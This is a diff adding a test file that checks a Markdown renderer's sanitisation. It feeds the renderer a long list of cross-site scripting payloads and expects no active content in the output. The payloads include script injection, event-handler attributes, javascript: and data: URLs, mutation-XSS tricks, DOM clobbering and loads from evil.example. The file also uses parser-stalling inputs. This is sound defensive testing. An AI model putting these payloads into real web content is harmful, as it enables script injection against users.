@@ -1,0 +1,138 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { renderMarkdown, type TextPlace } from '../../../src/lib/server/markdown.ts';
+import { activeContentIn } from '../../support/active-content.ts';
+
+const place: TextPlace = { title: 'Bad', findPattern: () => null, sourceUrl: 'https://code.example/a/b.md' };
+const html = (markdown: string) => renderMarkdown(markdown, place).html;
+
+const ATTACKS = [
+	'<script>globalThis.__pwned=1</script>',
+	'<ScRiPt SRC=//evil.example></sCrIpT>',
+	'<img src=x onerror=globalThis.__pwned=1>',
+	'<svg/onload=globalThis.__pwned=1>',
+	'<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
+	'<svg><animate onbegin=alert(1) attributeName=x></svg>',
+	'<svg><style><img src=x onerror=alert(1)></style></svg>',
+	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+	'<iframe src="javascript:alert(1)"></iframe>',
+	'<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
+	'<object data="data:text/html,<script>1</script>"></object><embed src=x>',
+	'<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
+	'<a href="java\tscript:alert(1)">x</a>',
+	'<a href="\u0001javascript:alert(1)">x</a>',
+	'<a href=" &#x6A;avascript:alert(1)">x</a>',
+	'[x](&#106;avascript:alert(1))',
+	'[x](javascript&colon;alert(1))',
+	'[x](<java\nscript:alert(1)>)',
+	'[x]: javascript:alert(1)\n\n[x]',
+	'<javascript:alert(1)>',
+	'![x](javascript:alert(1))',
+	'![x](data:image/svg+xml;base64,PHN2Zy8+)',
+	'[x](https://e.example/"onmouseover="globalThis.__pwned=1)',
+	'[x](https://e.example \'" onmouseover="globalThis.__pwned=1\')',
+	'<p style="position:fixed;inset:0;background:url(https://e.example/)" onclick=alert(1)>x</p>',
+	'<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
+	'<link rel=stylesheet href=//evil.example/x.css><style>@import "//evil.example"</style>',
+	'<details open ontoggle=alert(1)><summary>x</summary></details>',
+	'<input autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>',
+	'<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=//evil.example/x autoplay>',
+	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+	'<template><script>alert(1)</script></template><slot>x</slot>',
+	'<a data-sveltekit-preload-data href="https://e.example/" ping="https://e.example/ping" target=_top>x</a>',
+	'<!--><img src=x onerror=alert(1)>-->',
+	'<?php echo "<script>alert(1)</script>" ?>',
+	'<![CDATA[<script>alert(1)</script>]]>',
+	'<form id=location><input name=href></form><a id=document name=cookie>x</a>',
+];
+
+describe('dangerous Markdown', () => {
+	it.each(ATTACKS)('is rendered without anything active: %s', (attack) => {
+		expect(activeContentIn(html(attack))).toEqual([]);
+	});
+
+	it('is rendered without anything active however its pieces are put together', () => {
+		const pieces = fc.constantFrom(
+			...ATTACKS.flatMap((attack) => attack.split(/(?<=[<>"'`\s()=])/)),
+			...ATTACKS,
+			...[
+				'\n',
+				'\n\n',
+				'> ',
+				'- ',
+				'    ',
+				'`',
+				'```\n',
+				'|',
+				'\n|-|-|\n',
+				'**',
+				'[',
+				'](',
+				')',
+				'[[',
+				']]',
+				'[^1]',
+				'[^1]: ',
+			],
+			...[
+				'<svg>',
+				'</svg>',
+				'<math>',
+				'<table>',
+				'</p>',
+				'<title>',
+				'</title>',
+				'&lt;',
+				'&#60;',
+				'\\',
+				'\u0000',
+				'\u2028',
+			],
+		);
+		fc.assert(
+			fc.property(fc.array(pieces, { maxLength: 30 }), (parts) => {
+				expect(activeContentIn(html(parts.join('')))).toEqual([]);
+			}),
+			{ numRuns: 1500 },
+		);
+	});
+
+	it('cannot take the place of an id of the page', () => {
+		expect(html('<a id="relations">x</a>\n\n## relations')).not.toMatch(/id="(?!text-)/);
+	});
+
+	it('is rendered to the same bytes every time', () => {
+		const once = html(ATTACKS.join('\n\n'));
+		expect(html(ATTACKS.join('\n\n'))).toBe(once);
+	});
+});
+
+describe('Markdown written to hold the build up', () => {
+	const n = 50_000;
+	const tangles: readonly (readonly [string, string])[] = [
+		['open brackets and quotes', `${'['.repeat(n)}\n${'>'.repeat(n)}`],
+		['brackets that close nothing', ']'.repeat(n)],
+		['unfinished links', '[a]('.repeat(n)],
+		['stars that pair with nothing', 'a**b'.repeat(n)],
+		['stars and bars in turns', '*_'.repeat(n)],
+		['nested elements', '<div>'.repeat(n)],
+		['nested tables', '<table><tr><td>'.repeat(n)],
+		['nested lists', Array.from({ length: 400 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n')],
+		['a chain of notes', Array.from({ length: n }, (_, i) => `[^${i}]: [^${i + 1}]`).join('\n\n')],
+		['a table of many rows', `|a|b|\n|-|-|\n${'|x|\n'.repeat(n)}`],
+		['comments that never end', '<!--'.repeat(n)],
+		['backticks of all lengths', Array.from({ length: 400 }, (_, length) => '`'.repeat(length)).join(' ')],
+	];
+
+	it.each(tangles)('is rendered in bounded time: %s', (_name, text) => {
+		const start = performance.now();
+		expect(activeContentIn(html(text))).toEqual([]);
+		expect(performance.now() - start).toBeLessThan(15_000);
+	});
+
+	it('is shown as it is written where it is nested too deep to be read', () => {
+		const { html: shown, isPlain } = renderMarkdown(`${'>'.repeat(200)} <b>deep</b>`, place);
+		expect(isPlain).toBe(true);
+		expect(shown).toBe(`<pre>${'>'.repeat(200)} &#x3C;b>deep&#x3C;/b></pre>`);
+	});
+});
